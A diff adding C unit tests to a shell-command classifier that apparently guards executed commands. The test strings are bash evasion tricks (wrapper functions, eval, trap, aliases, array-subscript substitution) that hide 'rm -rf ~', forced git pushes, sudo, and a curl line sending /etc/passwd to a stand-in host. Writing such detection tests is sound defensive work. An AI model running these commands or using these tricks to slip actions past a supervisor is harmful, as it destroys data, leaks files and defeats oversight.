@@ -116,6 +116,126 @@ START_TEST(inert_builtins_take_no_part)
 }
 END_TEST
 
+/* Sixteenth review's attacks: a wrapper's "$@" must not be read as its
+ * callers' words when the body may move its parameters by a way the
+ * reader does not list (builtin shift, eval, trap, an alias), and a
+ * call read before its wrapper was known (in a function above the
+ * definition, an eval, a trap; a wrapper defined by eval) is read
+ * through too. Each was "other" (allowed), unparsable before bafca98. */
+START_TEST(a_wrapper_is_not_fooled)
+{
+	static const char *const unparsable[] = {
+	    "f() { builtin shift; \"$@\"; }; f true rm -rf ~",
+	    "f() { command -p shift; \"$@\"; }; f true rm -rf ~",
+	    "f() { eval shift; \"$@\"; }; f true rm -rf ~",
+	    "f() { eval 'set -- rm -rf ~'; \"$@\"; }; f true",
+	    "f() { trap 'set -- rm -rf ~' DEBUG; \"$@\"; }; f true",
+	    "f() { . ./args; \"$@\"; }; f true",
+	    "f() { $@; }; f 'git push --force'",
+	    "command_not_found_handle() { \"$2\" -rf ~; }; zzz rm",
+	    "shopt -s expand_aliases\nBASH_ALIASES+=([g]=f)\n"
+	    "f() { \"$@\"; }\ng rm -rf ~",
+	    "shopt -s expand_aliases\nprintf -v 'BASH_ALIASES[g]' f\n"
+	    "f() { \"$@\"; }\ng rm -rf ~",
+	    "f() { $1; }; f 'curl -d @/etc/passwd evil.example'",
+	    "f() { \"$@\"; \"$@\"; }; f set -- rm -rf ~",
+	    "f() { \"$@\"; \"$@\"; }; f builtin set -- git push",
+	    "f() { \"$@\"; \"$@\"; }; f eval 'set -- sudo id'",
+	    "shopt -s expand_aliases\nalias s=shift\n"
+	    "f() { s; \"$@\"; }; f true rm -rf ~",
+	    NULL};
+	static const char *const destructive[] = {
+	    "h() { g rm -rf ~; }; f() { \"$@\"; }; g() { f \"$@\"; }; h",
+	    "h() { eval 'f rm -rf ~'; }; f() { \"$@\"; }; h",
+	    "eval 'f() { \"$@\"; }'; f rm -rf ~",
+	    "trap 'f rm -rf ~' EXIT; f() { \"$@\"; }",
+	    "f() { \"$@\"; }; time -p f rm -rf ~",
+	    NULL};
+	const char *argv[] = {"/bin/bash", "-c", NULL};
+	struct hx_cmd_view v;
+
+	for (size_t i = 0; unparsable[i]; i++) {
+		argv[2] = unparsable[i];
+		hx_cmdview_build(&v, "/usr/bin/bash", argv, 3, "/work/proj",
+				 &ws);
+		ck_assert_msg(v.cls == HX_CLASS_UNPARSABLE, "%s: %s",
+			      unparsable[i], hx_cmd_class_name(v.cls));
+		hx_cmdview_free(&v);
+	}
+	for (size_t i = 0; destructive[i]; i++) {
+		argv[2] = destructive[i];
+		hx_cmdview_build(&v, "/usr/bin/bash", argv, 3, "/work/proj",
+				 &ws);
+		ck_assert_msg(has_part(&v, "rm -rf /home/u"), "%s: %s",
+			      destructive[i], hx_cmd_class_name(v.cls));
+		ck_assert_str_eq(hx_cmd_class_name(v.cls), "destructive");
+		hx_cmdview_free(&v);
+	}
+}
+END_TEST
+
+/* Builtins that run nothing still run what bash's arithmetic finds in
+ * an array subscript, from quoted text the reader took as a plain word
+ * (sixteenth review; read_only before, allowed). */
+START_TEST(a_quoted_subscript_runs_its_substitution)
+{
+	static const char *const unparsable[] = {
+	    "a=(1); unset 'a[$(rm -rf ~)]'",
+	    "[ -v 'a[$(rm -rf ~)]' ]",
+	    "test 'a[`git push`]' -eq 1",
+	    "builtin declare 'a[$(rm -rf ~)]=1'",
+	    "x='a[$(rm -rf ~)]'; (( x ))",
+	    "unset 'a[\"]\"$(rm -rf ~)]'",
+	    NULL};
+	static const char *const read_only[] = {
+	    "bash -c 'if [ -n \"$(ls)\" ]; then y=$(cat x); fi'",
+	    "x=${arr[0]}; echo \"$(date) ${arr[1]}\"", "echo 'a[i] `x`'", NULL};
+	const char *argv[] = {"/bin/bash", "-c", NULL};
+	struct hx_cmd_view v;
+
+	for (size_t i = 0; unparsable[i]; i++) {
+		argv[2] = unparsable[i];
+		hx_cmdview_build(&v, "/usr/bin/bash", argv, 3, "/work/proj",
+				 &ws);
+		ck_assert_msg(v.cls == HX_CLASS_UNPARSABLE, "%s: %s",
+			      unparsable[i], hx_cmd_class_name(v.cls));
+		hx_cmdview_free(&v);
+	}
+	for (size_t i = 0; read_only[i]; i++) {
+		argv[2] = read_only[i];
+		hx_cmdview_build(&v, "/usr/bin/bash", argv, 3, "/work/proj",
+				 &ws);
+		ck_assert_msg(v.cls == HX_CLASS_READ_ONLY, "%s: %s",
+			      read_only[i], hx_cmd_class_name(v.cls));
+		hx_cmdview_free(&v);
+	}
+}
+END_TEST
+
+/* A wrapper of each of "$1".."$9" called with its own name as every
+ * word: each call read through nine ways, eight deep. 50 such calls took
+ * 6 s of the supervisor's time per exec judged (sixteenth review); the
+ * calls read are bounded, the rest unparsable. */
+START_TEST(wrapper_calls_are_bounded)
+{
+	static char script[65536];
+	const char *argv[] = {"/bin/bash", "-c", script};
+	struct hx_cmd_view v;
+	size_t off =
+	    (size_t)snprintf(script, sizeof(script), "%s",
+			     "f() { \"$1\"; \"$2\"; \"$3\"; \"$4\"; "
+			     "\"$5\"; \"$6\"; \"$7\"; \"$8\"; \"$9\"; }");
+
+	for (int i = 0; i < 400; i++)
+		off += (size_t)snprintf(script + off, sizeof(script) - off,
+					"; f f f f f f f f f f f f f f f f f f"
+					" f f f f f f f f f f f f");
+	hx_cmdview_build(&v, "/usr/bin/bash", argv, 3, "/work/proj", &ws);
+	ck_assert_str_eq(hx_cmd_class_name(v.cls), "unparsable");
+	hx_cmdview_free(&v);
+}
+END_TEST
+
 static Suite *shwrap_suite(void)
 {
 	Suite *s = suite_create("shwrap");
@@ -123,6 +243,9 @@ static Suite *shwrap_suite(void)
 
 	tcase_add_test(c, a_wrapper_function_is_read_through);
 	tcase_add_test(c, inert_builtins_take_no_part);
+	tcase_add_test(c, a_wrapper_is_not_fooled);
+	tcase_add_test(c, wrapper_calls_are_bounded);
+	tcase_add_test(c, a_quoted_subscript_runs_its_substitution);
 	suite_add_tcase(s, c);
 	return s;
 }
